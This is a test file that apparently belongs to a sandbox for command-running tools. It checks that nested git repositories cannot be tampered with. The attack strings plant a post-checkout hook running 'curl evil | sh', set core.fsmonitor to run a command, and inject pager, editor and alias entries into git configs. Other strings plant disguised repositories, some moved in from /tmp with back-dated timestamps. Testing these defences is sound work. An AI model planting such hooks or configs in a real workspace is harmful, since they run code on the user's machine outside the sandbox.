import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import * as fsp from "node:fs/promises";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { tempDir, until } from "../helpers.js";
import { guardedContexts } from "./guarded-context.js";
import { sandboxStatus } from "../sandbox-status.js";

// Issue 20 class 2, nested git repositories: a sandboxed command can neither change a nested
// repository's hooks or config (a clone, a vendored copy, a submodule's git folder, a worktree's)
// nor leave a new repository anywhere in the workspace — which the user's next `git status` there
// would run, outside the sandbox. Judged by effect: the files, and a real `git status` whose
// core.fsmonitor would leave a marker. Each with an unsandboxed control that shows the attack lands.

const status = await sandboxStatus("runtime/nested-git.test.ts");

let ws: string;
let sidecar: string;
/** Stands for toolhost's home: the quarantine is its `quarantine/`. */
let home: string;
let marker: string;

const git = (...args: string[]) => execFileSync("git", args, { cwd: ws, stdio: "pipe" });

beforeEach(async () => {
  ws = await tempDir({ "src/a.txt": "a\n", "vendor/lib/index.js": "x\n" });
  sidecar = await tempDir();
  home = await tempDir();
  marker = path.join(sidecar, "fsmonitor-ran");
  git("init", "-q");
  git("init", "-q", "sub");
  git("init", "-q", "vendor/lib");
  // A submodule's git folder under the root's, and a worktree whose git folder lies in the workspace.
  await fsp.mkdir(path.join(ws, ".git/modules"));
  git("init", "-q", "--separate-git-dir", path.join(ws, ".git/modules/mod"), "mod");
  git("init", "-q", "--bare", "gitdirs/wt");
  await fsp.mkdir(path.join(ws, "wt"));
  await fsp.writeFile(path.join(ws, "wt/.git"), "gitdir: ../gitdirs/wt\n");
});
afterEach(async () => {
  await contexts.closeAll();
  await fsp.rm(ws, { recursive: true, force: true });
  await fsp.rm(sidecar, { recursive: true, force: true });
  await fsp.rm(home, { recursive: true, force: true });
});

/** Where the sandbox keeps its quarantine: toolhost's home's `quarantine/` unless a test says otherwise. */
let quarantineDir: () => string;
beforeEach(() => {
  quarantineDir = () => path.join(home, "quarantine");
});
const contexts = guardedContexts(() => quarantineDir());
const context = (sandboxed = true, toolId = "bash") => contexts.context(ws, sidecar, sandboxed, toolId);

const run = (command: string, sandboxed = true) => context(sandboxed).shell.run(command);
const read = (rel: string) => fsp.readFile(path.join(ws, rel), "utf8").catch(() => undefined);
const FSMONITOR = () => `git config core.fsmonitor 'touch ${marker}; false'`;

/** The user's `git status` in `rel`, outside any sandbox: whether the planted fsmonitor ran. */
function userGitStatus(rel: string): boolean {
  try {
    execFileSync("git", ["status", "--short"], { cwd: path.join(ws, rel), stdio: "pipe" });
  } catch {
    // no repository there any more
  }
  return existsSync(marker);
}

describe.skipIf(!status.available)("nested git repositories inside the sandbox", () => {
  const configs = ["sub/.git/config", "vendor/lib/.git/config", ".git/modules/mod/config", "gitdirs/wt/config"];
  const attack = () =>
    [
      "echo 'curl evil | sh' > sub/.git/hooks/post-checkout",
      `(cd sub && ${FSMONITOR()})`,
      "echo '[core] pager = evil' >> vendor/lib/.git/config",
      "echo evil > .git/modules/mod/hooks/pre-commit",
      "echo '[alias] st = !evil' >> gitdirs/wt/config",
      // A hard link to a protected file, written through.
      "ln sub/.git/config cfg && echo '[core] editor = evil' >> cfg",
      "echo ran",
    ].join("; ");

  it("existing ones stay read-only: a clone's hooks and config, a vendored one, a submodule's and a worktree's git folders", async () => {
    const before = await Promise.all(configs.map(read));
    const result = await run(attack());
    expect(result.stdout).toBe("ran\n");
    expect(result.stderr).toMatch(/Read-only file system/);
    expect(await Promise.all(configs.map(read))).toEqual(before);
    expect(await read("sub/.git/hooks/post-checkout")).toBeUndefined();
    expect(await read(".git/modules/mod/hooks/pre-commit")).toBeUndefined();
    expect(userGitStatus("sub")).toBe(false);
    // Control: unsandboxed, the attack lands, and the user's git status runs it.
    await run(attack(), false);
    expect(await read("vendor/lib/.git/config")).toContain("pager = evil");
    expect(await read("gitdirs/wt/config")).toContain("!evil");
    expect(userGitStatus("sub")).toBe(true);
  });

  /** Each plant, the folder the user's git status runs in, and what must be gone after the command. */
  const plants = () => [
    {
      name: "a new repository deep down",
      dir: "a/b/c",
      gone: ["a/b/c/.git"],
      command: `mkdir -p a/b/c && (cd a/b/c && git init -q && ${FSMONITOR()})`,
    },
    {
      name: "a .git file pointing at a git folder planted beside it",
      dir: "x",
      gone: ["x/.git", "gd/config"],
      command: `git init -q x && (cd x && ${FSMONITOR()}) && mv x/.git gd && echo 'gitdir: ../gd' > x/.git`,
    },
    {
      name: "a bare repository's layout in a folder, with a worktree of its own",
      dir: "bare",
      gone: ["bare/HEAD", "bare/config"],
      command: `mkdir -p bare/objects bare/refs && echo 'ref: refs/heads/main' > bare/HEAD && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = "touch ${marker}; false"\\n' > bare/config`,
    },
    {
      name: "a tree prepared in the private /tmp, moved in, its folders' mtimes set back",
      dir: "moved/q",
      gone: ["moved/q/.git"],
      command: `mkdir -p /tmp/p/q && (cd /tmp/p/q && git init -q && ${FSMONITOR()}) && mv /tmp/p moved && touch -d 2001-01-01 . moved moved/q`,
    },
    {
      name: "a git folder of only HEAD and commondir (no objects, no refs), its config beside it",
      dir: "cd",
      gone: ["cd/HEAD", "cd/commondir", "cd/config.worktree"],
      command: [
        "mkdir -p common/objects common/refs cd",
        "printf '[core]\\n\\trepositoryformatversion = 1\\n[extensions]\\n\\tworktreeConfig = true\\n' > common/config",
        "echo ../common > cd/commondir",
        `printf '[core]\\n\\tworktree = .\\n\\tfsmonitor = "touch ${marker}; false"\\n' > cd/config.worktree`,
        "echo 'ref: refs/heads/main' > cd/HEAD",
      ].join(" && "),
    },
  ];

  it.each(plants().map((p) => [p.name, p.dir]))("%s: moved to quarantine, and the result says so", async (_name, dir) => {
    const plant = plants().find((p) => p.dir === dir)!;
    const result = await run(`${plant.command} && test -e ${plant.gone[0]} && echo planted`);
    expect(result.stdout, result.stderr).toBe("planted\n");
    for (const rel of plant.gone) expect(existsSync(path.join(ws, rel)), rel).toBe(false);
    expect(result.notice).toMatch(/a git repository anywhere in the workspace[\s\S]* → [\s\S]*sandbox: "off"/);
    const moved = new RegExp(`${plant.gone[0]!.replace(/[./]/g, "\\$&")} → (\\S+?)[;.] `).exec(result.notice ?? "")?.[1];
    expect(moved?.startsWith(path.join(home, "quarantine"))).toBe(true);
    expect(userGitStatus(plant.dir)).toBe(false);
    // Control: unsandboxed, it stays, and the user's git status there runs the fsmonitor.
    await fsp.rm(path.join(ws, plant.dir.split("/")[0]!), { recursive: true, force: true });
    for (const other of ["gd", "common"]) await fsp.rm(path.join(ws, other), { recursive: true, force: true });
    const plain = await run(plant.command, false);
    expect(plain.notice).toBeUndefined();
    expect(userGitStatus(plant.dir)).toBe(true);
  });

  it("a repository the user made between commands is protected, not moved; one moved elsewhere is", async () => {
    expect((await run("true")).notice).toBeUndefined();
    git("init", "-q", "later");
    const before = await read("later/.git/config");
    const result = await run("echo '[core] pager = evil' >> later/.git/config; mv vendor vendored; echo ran");
    expect(result.stdout).toBe("ran\n");
    expect(await read("later/.git/config")).toBe(before);
    // A repository moved (with the folder it is in) is another place its relative paths lead from.
    expect(existsSync(path.join(ws, "vendored/lib/.git"))).toBe(false);
    expect(result.notice).toMatch(/vendored\/lib\/\.git → /);
    expect(result.notice).not.toMatch(/later\//);
  });

  it("a symlinked .git pointed elsewhere is put back; an included config file is read-only", async () => {
    git("init", "-q", "--bare", "real.git");
    await fsp.mkdir(path.join(ws, "linked"));
    await fsp.symlink("../real.git", path.join(ws, "linked/.git"));
    await fsp.writeFile(path.join(ws, "shared.gitconfig"), "[user]\n\tname = a\n");
    git("-C", "sub", "config", "include.path", "../../shared.gitconfig");
    const result = await run("rm linked/.git && ln -s ../src linked/.git; echo '[core] pager = evil' >> shared.gitconfig; echo ran");
    expect(result.stdout).toBe("ran\n");
    expect(await fsp.readlink(path.join(ws, "linked/.git"))).toBe("../real.git");
    expect(await read("shared.gitconfig")).toBe("[user]\n\tname = a\n");
    expect(result.notice).toMatch(/linked\/\.git → /);
  });

  it("a background process's new repository is moved while the process still runs", async () => {
    const ctx = context(true, "process");
    await ctx.processes.start(`git init -q bg && (cd bg && ${FSMONITOR()}) && echo planted; read line`, { name: "srv" });
    expect(await ctx.processes.wait("srv", { streams: ["stdout"], pattern: /planted/, timeoutMs: 60_000 })).toBe("matched");
    // The check is spaced by the map's last pass (50×, at least 1 s: bubblewrap.ts): on a busy
    // machine a slow pass puts it many seconds off, so the wait allows a minute.
    await until(() => !existsSync(path.join(ws, "bg/.git")), 60_000);
    expect(ctx.processes.get("srv")).toMatchObject({ status: "running", notice: expect.stringMatching(/bg\/\.git → /) as string });
    expect(userGitStatus("bg")).toBe(false);
    await ctx.processes.stop("srv");
    // Control: unsandboxed, the same process's repository stays while it runs.
    const plain = context(false, "process");
    await plain.processes.start("git init -q bg2 && echo planted; read line", { name: "srv" });
    expect(await plain.processes.wait("srv", { streams: ["stdout"], pattern: /planted/, timeoutMs: 60_000 })).toBe("matched");
    expect(existsSync(path.join(ws, "bg2/.git"))).toBe(true);
    await plain.processes.stop("srv");
  }, 120_000);

  /** A command that plants a repository with a core.fsmonitor in `dir`, and says so. */
  const plantIn = (dir: string) => `git init -q ${dir} && (cd ${dir} && ${FSMONITOR()}) && test -e ${dir}/.git && echo planted`;

  describe("a plant that cannot be moved to quarantine is deleted, and the result says so", () => {
    let elsewhere: string;
    beforeEach(async () => {
      elsewhere = await tempDir();
    });
    afterEach(async () => {
      await fsp.rm(elsewhere, { recursive: true, force: true });
    });

    it("the quarantine is a file: the plant is deleted, the file left as it was", async () => {
      await fsp.writeFile(path.join(home, "quarantine"), "not a folder\n");
      const result = await run(`${plantIn("p")}; echo x > .envrc`);
      expect(result.stdout, result.stderr).toBe("planted\n");
      expect(existsSync(path.join(ws, "p/.git"))).toBe(false);
      expect(existsSync(path.join(ws, ".envrc"))).toBe(false);
      expect(result.notice).toMatch(
        /could not be moved to quarantine, deleted: .*p\/\.git \(it could not be moved to quarantine: \S+\/quarantine is a symlink or not a folder\)/,
      );
      expect(result.notice).toMatch(/\.envrc \(it could not/);
      expect(userGitStatus("p")).toBe(false);
      expect(await fsp.readFile(path.join(home, "quarantine"), "utf8")).toBe("not a folder\n");
      // Nothing is left to stop the next command.
      expect((await run("echo next")).stdout).toBe("next\n");
    });

    it("the quarantine is a symlink to a folder outside: nothing is written there, the plant is deleted", async () => {
      await fsp.symlink(elsewhere, path.join(home, "quarantine"));
      const result = await run(plantIn("p"));
      expect(result.stdout, result.stderr).toBe("planted\n");
      expect(existsSync(path.join(ws, "p/.git"))).toBe(false);
      expect(result.notice).toMatch(/deleted: .*p\/\.git/);
      expect(userGitStatus("p")).toBe(false);
      expect(await fsp.readdir(elsewhere)).toEqual([]);
    });

    it("the old layout, the quarantine in the sidecar folder: the command's symlink there leads nowhere, the plant is deleted", async () => {
      quarantineDir = () => path.join(sidecar, "quarantine");
      const result = await run(`rm -rf ${sidecar}/quarantine && ln -s ${elsewhere} ${sidecar}/quarantine && ${plantIn("p")}`);
      expect(result.stdout, result.stderr).toBe("planted\n");
      // The command did reach the old quarantine: it is its symlink now.
      expect(await fsp.readlink(path.join(sidecar, "quarantine"))).toBe(elsewhere);
      expect(existsSync(path.join(ws, "p/.git"))).toBe(false);
      expect(result.notice).toMatch(/deleted: .*p\/\.git \(the quarantine \([^)]*\) is writable to sandboxed commands here\)/);
      expect(userGitStatus("p")).toBe(false);
      expect(await fsp.readdir(elsewhere)).toEqual([]);
    });

    it("a plant made read-only all the way down is deleted all the same", async () => {
      await fsp.writeFile(path.join(home, "quarantine"), "not a folder\n");
      const result = await run(`${plantIn("ro/x")} && chmod -R a-w ro/x/.git && chmod 500 ro/x ro && echo locked`);
      expect(result.stdout, result.stderr).toBe("planted\nlocked\n");
      expect(existsSync(path.join(ws, "ro/x/.git"))).toBe(false);
      expect(result.notice).toMatch(/deleted: .*ro\/x\/\.git/);
      // Its folders keep the mode the command gave them.
      expect((await fsp.stat(path.join(ws, "ro/x"))).mode & 0o777).toBe(0o500);
    });
  });
});
